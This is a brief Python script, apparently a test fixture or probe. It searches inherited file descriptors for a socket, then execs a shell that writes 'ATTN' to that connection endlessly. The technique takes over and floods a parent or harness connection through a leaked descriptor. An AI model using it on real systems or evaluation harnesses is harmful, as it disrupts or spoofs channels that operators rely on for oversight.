"""Becomes a program that writes to the connection."""
import os
import stat

for fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.set_inheritable(fd, True)
            os.execv("/bin/sh", ["sh", "-c", f"while printf 'ATTN' >&{fd}; do :; done"])
    except OSError:
        pass
